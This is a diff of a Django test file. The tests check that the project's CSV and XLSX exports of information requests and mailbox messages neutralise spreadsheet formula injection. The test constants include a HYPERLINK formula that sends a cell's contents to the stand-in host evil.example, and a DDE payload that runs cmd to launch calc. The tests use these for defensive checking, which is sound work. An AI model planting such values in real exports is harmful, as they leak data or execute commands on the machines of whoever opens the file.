@@ -12,9 +12,7 @@ from openpyxl import load_workbook
 from gongkai.applications.models import InformationRequest
 from gongkai.core.spreadsheets import FORMULA_STARTS, csv_content, xlsx_content
 from gongkai.interaction.models import ConsultationComment, ConsultationPage, Message
-from tests.applications.test_applications import applied, form_data, office_client  # noqa: F401  (fixtures)
 from tests.factories import ColumnPageFactory
-from tests.governance.conftest import bureau  # noqa: F401  (fixture)
 
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&D2,"点击查看")'
 OTHERS = ["+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1"]
@@ -43,14 +41,14 @@ def assert_neutralised(response, typed):
 
 @pytest.mark.django_db
 @pytest.mark.parametrize("kind", ["csv", "xlsx"])
-def test_applications_export(office_client, applied, kind):  # noqa: F811
+def test_applications_export(office_client, applied, kind):
     InformationRequest.objects.filter(pk=applied.pk).update(name=HOSTILE)
     assert_neutralised(office_client.get(reverse("applications_queue"), {"status": "all", "export": kind}), HOSTILE)
 
 
 @pytest.mark.django_db
 @pytest.mark.parametrize("kind", ["csv", "xlsx"])
-def test_mailbox_export(client, bureau, kind):  # noqa: F811
+def test_mailbox_export(client, bureau, kind):
     Message.objects.create(category="question", subject=HOSTILE, content="c", name="张三", phone="13700001111")
     client.force_login(bureau["office"])
     response = client.get(reverse("mailbox_admin"), {"state": "all", "export": kind})
